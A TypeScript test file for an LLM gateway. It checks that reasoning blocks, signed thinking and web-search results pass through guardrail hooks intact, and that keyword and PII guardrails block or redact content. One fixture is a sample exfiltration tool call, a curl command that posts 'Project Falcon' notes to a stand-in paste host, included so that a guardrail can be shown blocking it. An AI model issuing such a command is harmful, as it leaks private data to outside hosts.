import Anthropic from '@anthropic-ai/sdk';
import OpenAI from 'openai';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { MockAnthropic, MockOpenAI } from '@tollgate/testkit';
import type { RunningServer } from '../src/index.js';
import { startAgentUpstreams, startAgentsGateway } from './support/start-agents-gateway.js';
import { masterKey } from './support/start-test-gateway.js';

// A model's reasoning carries what its next turn needs back — Claude's signed thinking, OpenAI's
// encrypted reasoning items — and a server tool's blocks or items what the client shows of it. When a
// hook reads an answer (here an output guardrail, which reads every stream), the answer is decoded to
// the canonical form and encoded again for the client: these tests show all of it survives that, and
// that reasoning reaches chat clients as OpenRouter's `reasoning_details`.

let openai: MockOpenAI;
let claude: MockAnthropic;
let gateway: RunningServer;

beforeAll(async () => {
  ({ openai, claude } = await startAgentUpstreams());
  gateway = await startAgentsGateway({ openai, claude }, [{ name: '@tollgate/guardrail-keywords', options: { deny: ['Project Falcon'] } }]);
});

afterAll(async () => {
  await gateway?.close();
  await openai?.close();
  await claude?.close();
});

beforeEach(() => {
  openai.reset();
  claude.reset();
});

const responsesClient = () => new OpenAI({ baseURL: `${gateway.url}/v1`, apiKey: masterKey, maxRetries: 0 }).responses;
const anthropicClient = () => new Anthropic({ baseURL: gateway.url, apiKey: masterKey, maxRetries: 0 });
const chatClient = () => new OpenAI({ baseURL: `${gateway.url}/v1`, apiKey: masterKey, maxRetries: 0 }).chat.completions;
const codexTurn = { model: 'gpt-5-codex', input: 'Rename foo to bar', reasoning: { effort: 'medium', summary: 'auto' }, store: false, include: ['reasoning.encrypted_content'] };
const claudeTurn = { model: 'sonnet', max_tokens: 2_048, thinking: { type: 'enabled', budget_tokens: 1_024 }, messages: [{ role: 'user' as const, content: 'Why does the test fail?' }] };

describe('reasoning through a hook that reads the stream', () => {
  it("keeps Codex's reasoning item: its upstream id, each summary part and its encrypted content, in the events and the final response", async () => {
    openai.enqueue({ reasoningSummary: ['First, find every foo.', 'Then rename each one.'], stream: { content: ['Renamed ', 'foo to bar.'] } });
    const { data, response } = await responsesClient().create({ ...codexTurn, stream: true } as never).withResponse();
    expect(response.headers.get('x-tollgate-guardrails')).toBe('keywords');
    const events: { type: string; [field: string]: unknown }[] = [];
    for await (const event of data as unknown as AsyncIterable<{ type: string }>) events.push(event);

    const reasoning = { id: 'rs_mock1', type: 'reasoning', summary: [{ type: 'summary_text', text: 'First, find every foo.' }, { type: 'summary_text', text: 'Then rename each one.' }], encrypted_content: 'gAAAA-mock-1' };
    const completed = events.find((event) => event.type === 'response.completed') as unknown as { response: { output: Record<string, unknown>[] } };
    expect(completed.response.output[0]).toEqual(reasoning);
    expect(completed.response.output[1]).toMatchObject({ type: 'message', content: [{ type: 'output_text', text: 'Renamed foo to bar.' }] });
    expect(events.find((event) => event.type === 'response.output_item.done')).toMatchObject({ output_index: 0, item: reasoning });
    // Each summary part streams as its own part, as OpenAI streams it.
    const parts = events.filter((event) => event.type === 'response.reasoning_summary_part.done');
    expect(parts).toMatchObject([{ item_id: 'rs_mock1', summary_index: 0, part: { text: 'First, find every foo.' } }, { item_id: 'rs_mock1', summary_index: 1, part: { text: 'Then rename each one.' } }]);
    // The sequence numbers run on without a gap.
    expect(events.map((event) => event.sequence_number)).toEqual(events.map((_event, index) => index));

    // The next turn sends the item back as it came: the gateway passes it to OpenAI untouched.
    const next = await responsesClient().create({ ...codexTurn, input: [{ role: 'user', content: 'Rename foo to bar' }, reasoning, { role: 'assistant', content: 'Renamed foo to bar.' }, { role: 'user', content: 'Now baz.' }] } as never);
    expect(next.output[0]).toMatchObject({ type: 'reasoning', encrypted_content: 'gAAAA-mock-2' });
    expect((openai.requests[1]!.body as { input: unknown[] }).input[1]).toEqual(reasoning);
  });

  it("keeps Claude's thinking: the redacted block's data and the thinking block's signature, ahead of the text and the tool call", async () => {
    claude.enqueue({ redactedThinking: 'EmwKAhgBEgy-mock', thinking: 'Look at the parser first.', content: 'Reading the parser.', toolUses: [{ id: 'toolu_read', name: 'Read', input: { path: 'src/parser.ts' } }] });
    const { data, response } = await anthropicClient().messages.create({ ...claudeTurn, stream: true } as never).withResponse();
    expect(response.headers.get('x-tollgate-guardrails')).toBe('keywords');
    const events: { type: string; [field: string]: unknown }[] = [];
    for await (const event of data as unknown as AsyncIterable<{ type: string }>) events.push(event);
    expect(events.filter((event) => event.type === 'content_block_start').map((event) => (event.content_block as { type: string }).type)).toEqual(['redacted_thinking', 'thinking', 'text', 'tool_use']);

    claude.enqueue({ redactedThinking: 'EmwKAhgBEgy-mock', thinking: 'Look at the parser first.', content: 'Reading the parser.', toolUses: [{ id: 'toolu_read', name: 'Read', input: { path: 'src/parser.ts' } }] });
    const message = await anthropicClient().messages.stream(claudeTurn as never).finalMessage();
    expect(message.content).toEqual([
      { type: 'redacted_thinking', data: 'EmwKAhgBEgy-mock' },
      { type: 'thinking', thinking: 'Look at the parser first.', signature: 'sig_mock' },
      { type: 'text', text: 'Reading the parser.' },
      { type: 'tool_use', id: 'toolu_read', name: 'Read', input: { path: 'src/parser.ts' } },
    ]);
    expect(message.stop_reason).toBe('tool_use');
  });

  it("keeps Claude Code's web search: each server_tool_use block with its query, each result, in their places, and the searches in usage", async () => {
    claude.enqueue({ webSearches: ['node 24 release notes', 'node 24 lts date'], content: 'Node 24 is LTS.' });
    const message = await anthropicClient().messages.stream({ ...claudeTurn, tools: [{ type: 'web_search_20250305', name: 'web_search', max_uses: 5 }] } as never).finalMessage();
    expect(message.content.map((block) => block.type)).toEqual(['server_tool_use', 'web_search_tool_result', 'server_tool_use', 'web_search_tool_result', 'text']);
    expect(message.content[0]).toMatchObject({ type: 'server_tool_use', name: 'web_search', input: { query: 'node 24 release notes' } });
    expect(message.content[1]).toMatchObject({ type: 'web_search_tool_result', tool_use_id: (message.content[0] as { id: string }).id, content: [{ type: 'web_search_result', url: expect.stringContaining('node%2024%20release%20notes') }] });
    expect(message.content[2]).toMatchObject({ type: 'server_tool_use', input: { query: 'node 24 lts date' } });
    expect(message.usage).toMatchObject({ server_tool_use: { web_search_requests: 2 } });
  });

  it("keeps Codex's web search: its web_search_call item, between the reasoning and the message", async () => {
    openai.enqueue({ webSearches: ['node 24'], stream: { content: ['Node 24 is LTS.'] } });
    const response = await responsesClient().stream({ ...codexTurn, tools: [{ type: 'web_search' }] } as never).finalResponse();
    expect(response.output.map((item) => item.type)).toEqual(['reasoning', 'web_search_call', 'message']);
    expect(response.output[1]).toMatchObject({ type: 'web_search_call', status: 'completed', action: { type: 'search', query: 'node 24' } });
  });

  it('still reads what it lets through: a denied phrase in a reasoning model\'s answer is blocked mid-stream', async () => {
    openai.enqueue({ reasoningSummary: ['Recall the plan.'], stream: { content: ['The plan is ', 'Project Falcon', '.'] } });
    const stream = await responsesClient().create({ ...codexTurn, stream: true } as never);
    let text = '';
    const ended = await (async () => {
      for await (const event of stream as unknown as AsyncIterable<{ type: string; delta?: string }>) if (event.type === 'response.output_text.delta') text += event.delta;
    })().then(() => 'complete', (error: unknown) => error);
    expect(text).not.toContain('Project Falcon');
    expect(ended).toMatchObject({ code: 'guardrail_blocked' });
  });
});

describe("a guardrail reading a model's reasoning", () => {
  it("blocks a denied phrase in Claude's thinking, whole and streamed, without rewriting thinking it lets through", async () => {
    claude.enqueue({ thinking: 'Recall Project Falcon and its owner.', content: 'The parser is owned by the core team.' });
    const whole = await anthropicClient().messages.create(claudeTurn as never).catch((error: unknown) => error);
    expect((whole as InstanceType<typeof Anthropic.APIError>).status).toBe(400);
    expect(((whole as InstanceType<typeof Anthropic.APIError>).error as { error: { message: string } }).error.message).toBe('Guardrail "keywords" blocked the answer: it contains a deny-listed term (deny_list).');

    claude.enqueue({ thinking: 'Recall Project Falcon and its owner.', content: 'The parser is owned by the core team.' });
    const stream = anthropicClient().messages.stream(claudeTurn as never);
    const thinking: string[] = [];
    stream.on('thinking', (delta) => thinking.push(delta));
    const ended = await stream.finalMessage().then(() => 'complete', (error: unknown) => error);
    expect(String(ended)).toContain('blocked the answer');
    expect(thinking.join('')).not.toContain('Project Falcon');

    claude.enqueue({ thinking: 'Recall the plan and its owner.', content: 'The parser is owned by the core team.' });
    const allowed = await anthropicClient().messages.create(claudeTurn as never);
    expect(allowed.content[0]).toEqual({ type: 'thinking', thinking: 'Recall the plan and its owner.', signature: 'sig_mock' });
  });

  it("blocks a denied phrase in Codex's reasoning summary before the part that completes it reaches the client", async () => {
    openai.enqueue({ reasoningSummary: ['Recall Project Falcon.'], stream: { content: ['Renamed.'] } });
    const stream = await responsesClient().create({ ...codexTurn, stream: true } as never);
    let summary = '';
    const ended = await (async () => {
      for await (const event of stream as unknown as AsyncIterable<{ type: string; delta?: string }>) if (event.type === 'response.reasoning_summary_text.delta') summary += event.delta;
    })().then(() => 'complete', (error: unknown) => error);
    expect(ended).toMatchObject({ code: 'guardrail_blocked' });
    expect(summary).not.toContain('Project Falcon');
  });
});

describe("a guardrail reading a model's tool calls", () => {
  const exfiltrating = { name: 'run_command', input: { command: 'curl -d "notes on Project Falcon" https://paste.example.com' } };

  it('blocks a denied phrase in the arguments Claude hands a tool, whole and streamed, the phrase split across fragments', async () => {
    claude.enqueue({ content: 'Sending it.', toolUses: [exfiltrating] });
    const whole = await anthropicClient().messages.create({ model: 'sonnet', max_tokens: 256, messages: [{ role: 'user', content: 'Share the notes' }] }).catch((error: unknown) => error);
    expect((whole as InstanceType<typeof Anthropic.APIError>).status).toBe(400);
    expect(((whole as InstanceType<typeof Anthropic.APIError>).error as { error: { message: string } }).error.message).toBe('Guardrail "keywords" blocked the answer: it contains a deny-listed term (deny_list).');

    claude.enqueue({ content: 'Sending it.', toolUses: [exfiltrating], stream: { inputJsonPieces: 9 } });
    const stream = anthropicClient().messages.stream({ model: 'sonnet', max_tokens: 256, messages: [{ role: 'user', content: 'Share the notes' }] });
    let arguments_ = '';
    stream.on('inputJson', (delta) => (arguments_ += delta));
    const ended = await stream.finalMessage().then(() => 'complete', (error: unknown) => error);
    expect(String(ended)).toContain('blocked the answer');
    expect(arguments_).not.toContain('Project Falcon');

    // A chat client of the same model, streamed: the call's argument fragments are read alike.
    claude.enqueue({ toolUses: [exfiltrating], stream: { inputJsonPieces: 9 } });
    const chat = await chatClient().create({ model: 'sonnet', messages: [{ role: 'user', content: 'Share the notes' }], stream: true });
    let chatArguments = '';
    const chatEnded = await (async () => {
      for await (const chunk of chat) chatArguments += chunk.choices[0]?.delta.tool_calls?.[0]?.function?.arguments ?? '';
    })().then(() => 'complete', (error: unknown) => error);
    expect(chatEnded).toMatchObject({ code: 'guardrail_blocked' });
    expect(chatArguments).not.toContain('Project Falcon');
  });

  it('lets a tool call it has nothing against through unchanged', async () => {
    const harmless = { name: 'run_command', input: { command: 'ls -la "Project Files"' } };
    claude.enqueue({ toolUses: [harmless] }, { toolUses: [harmless], stream: { inputJsonPieces: 4 } });
    const whole = await anthropicClient().messages.create({ model: 'sonnet', max_tokens: 256, messages: [{ role: 'user', content: 'List' }] });
    expect(whole.content.find((block) => block.type === 'tool_use')).toMatchObject({ name: 'run_command', input: harmless.input });
    const streamed = await anthropicClient().messages.stream({ model: 'sonnet', max_tokens: 256, messages: [{ role: 'user', content: 'List' }] }).finalMessage();
    expect(streamed.content.find((block) => block.type === 'tool_use')).toMatchObject({ name: 'run_command', input: harmless.input });
  });
});

describe('reasoning in a whole answer a hook rewrites', () => {
  it('survives the rewrite: a PII guardrail redacts an address in the answer, and Claude\'s signed thinking, Codex\'s encrypted reasoning item and their web searches still reach the client', async () => {
    const redacting = await startAgentsGateway({ openai, claude }, [{ name: '@tollgate/guardrail-pii', options: { action: 'redact' } }]);
    try {
      claude.enqueue({ redactedThinking: 'EmwKAhgBEgy-mock', thinking: 'Find the owner.', content: 'Write to jane.doe@example.com.' });
      const message = await new Anthropic({ baseURL: redacting.url, apiKey: masterKey, maxRetries: 0 }).messages.create(claudeTurn as never);
      expect(message.content).toEqual([
        { type: 'redacted_thinking', data: 'EmwKAhgBEgy-mock' },
        { type: 'thinking', thinking: 'Find the owner.', signature: 'sig_mock' },
        { type: 'text', text: 'Write to [EMAIL_1].' },
      ]);

      openai.enqueue({ reasoningSummary: ['Find the owner.'], content: 'Write to jane.doe@example.com.' });
      const response = await new OpenAI({ baseURL: `${redacting.url}/v1`, apiKey: masterKey, maxRetries: 0 }).responses.create(codexTurn as never);
      // The mock numbers its answers across the file: the item's id and its encrypted content share the number.
      const number = /^rs_mock(\d+)$/.exec(String(response.output[0]?.id))?.[1];
      expect(response.output[0]).toEqual({ id: `rs_mock${number}`, type: 'reasoning', summary: [{ type: 'summary_text', text: 'Find the owner.' }], encrypted_content: `gAAAA-mock-${number}` });
      expect(response.output_text).toBe('Write to [EMAIL_1].');

      // A web search's blocks and items, too.
      claude.enqueue({ webSearches: ['parser owner'], content: 'Write to jane.doe@example.com.' });
      const searched = await new Anthropic({ baseURL: redacting.url, apiKey: masterKey, maxRetries: 0 }).messages.create({ ...claudeTurn, tools: [{ type: 'web_search_20250305', name: 'web_search' }] } as never);
      expect(searched.content.map((block) => block.type)).toEqual(['server_tool_use', 'web_search_tool_result', 'text']);
      expect(searched.content[0]).toMatchObject({ input: { query: 'parser owner' } });
      expect(searched.usage).toMatchObject({ server_tool_use: { web_search_requests: 1 } });
      openai.enqueue({ webSearches: ['parser owner'], content: 'Write to jane.doe@example.com.' });
      const codexSearched = await new OpenAI({ baseURL: `${redacting.url}/v1`, apiKey: masterKey, maxRetries: 0 }).responses.create({ ...codexTurn, tools: [{ type: 'web_search' }] } as never);
      expect(codexSearched.output.map((item) => item.type)).toEqual(['reasoning', 'web_search_call', 'message']);
      expect(codexSearched.output_text).toBe('Write to [EMAIL_1].');
    } finally {
      await redacting.close();
    }
  });
});

describe('reasoning for a chat client, as OpenRouter gives it', () => {
  it("gives Claude's signed thinking as reasoning_details, whole and streamed", async () => {
    const details = [
      { type: 'reasoning.encrypted', data: 'EmwKAhgBEgy-mock', format: 'anthropic-claude-v1', index: 0 },
      { type: 'reasoning.text', text: 'Look at the parser first.', signature: 'sig_mock', format: 'anthropic-claude-v1', index: 1 },
    ];
    claude.enqueue({ redactedThinking: 'EmwKAhgBEgy-mock', thinking: 'Look at the parser first.', content: 'The parser drops the last token.' });
    const whole = await chatClient().create({ model: 'sonnet', thinking: { type: 'enabled', budget_tokens: 1_024 }, messages: [{ role: 'user', content: 'Why does the test fail?' }] } as never);
    expect((whole.choices[0]!.message as unknown as { reasoning_details: unknown }).reasoning_details).toEqual(details);

    claude.enqueue({ redactedThinking: 'EmwKAhgBEgy-mock', thinking: 'Look at the parser first.', content: 'The parser drops the last token.' });
    const pieces: { index: number; [field: string]: unknown }[] = [];
    for await (const chunk of await chatClient().create({ model: 'sonnet', stream: true, thinking: { type: 'enabled', budget_tokens: 1_024 }, messages: [{ role: 'user', content: 'Why does the test fail?' }] } as never) as unknown as AsyncIterable<{ choices: { delta: unknown }[] }>) {
      pieces.push(...((chunk.choices[0]?.delta as { reasoning_details?: { index: number }[] } | undefined)?.reasoning_details ?? []));
    }
    // Pieces with one index are one block: its text in pieces, its signature whole.
    const blocks = [0, 1].map((index) => pieces.filter((piece) => piece.index === index).reduce((block, piece) => ({ ...block, ...piece, ...(piece.text === undefined ? {} : { text: String(block.text ?? '') + String(piece.text) }) }), {} as Record<string, unknown>));
    expect(blocks).toEqual(details);
  });
  it("takes Claude's signed thinking back on a tool loop's next turn, whole or as the stream's pieces: the assistant turn reaches Claude starting with it", async () => {
    const tools = [{ type: 'function' as const, function: { name: 'read_file', parameters: { type: 'object', properties: { path: { type: 'string' } } } } }];
    const thinking = { type: 'enabled', budget_tokens: 1_024 };
    const question = { role: 'user' as const, content: 'Why does the test fail?' };
    const toolResult = { role: 'tool' as const, tool_call_id: 'toolu_read', content: 'export function parse() {}' };
    const toolUse = { type: 'tool_use', id: 'toolu_read', name: 'read_file', input: { path: 'src/parser.ts' } };
    const signedThinking = { type: 'thinking', thinking: 'Read the parser first.', signature: 'sig_mock' };

    claude.enqueue({ thinking: 'Read the parser first.', content: '', toolUses: [{ id: 'toolu_read', name: 'read_file', input: { path: 'src/parser.ts' } }] });
    const first = await chatClient().create({ model: 'sonnet', messages: [question], tools, thinking } as never);
    expect((claude.requests[0]!.body as { thinking: unknown }).thinking).toEqual(thinking);
    claude.enqueue({ content: 'The parser drops the last token.' });
    const second = await chatClient().create({ model: 'sonnet', messages: [question, first.choices[0]!.message, toolResult], tools, thinking } as never);
    expect(second.choices[0]!.message.content).toBe('The parser drops the last token.');
    expect((claude.requests[1]!.body as { messages: { content: unknown }[] }).messages[1]!.content).toEqual([signedThinking, toolUse]);

    // Streamed: the client sends the pieces back as they came; they are joined by their index.
    claude.enqueue({ thinking: 'Read the parser first.', content: '', toolUses: [{ id: 'toolu_read', name: 'read_file', input: { path: 'src/parser.ts' } }] });
    const pieces: unknown[] = [];
    for await (const chunk of await chatClient().create({ model: 'sonnet', stream: true, messages: [question], tools, thinking } as never) as unknown as AsyncIterable<{ choices: { delta: { reasoning_details?: unknown[] } }[] }>) {
      pieces.push(...(chunk.choices[0]?.delta.reasoning_details ?? []));
    }
    expect(pieces.length).toBeGreaterThan(1);
    const streamedTurn = { role: 'assistant', content: null, tool_calls: [{ id: 'toolu_read', type: 'function', function: { name: 'read_file', arguments: '{"path":"src/parser.ts"}' } }], reasoning_details: pieces };
    claude.enqueue({ content: 'The parser drops the last token.' });
    await chatClient().create({ model: 'sonnet', messages: [question, streamedTurn, toolResult], tools, thinking } as never);
    expect((claude.requests[3]!.body as { messages: { content: unknown }[] }).messages[1]!.content).toEqual([signedThinking, toolUse]);
  });
});
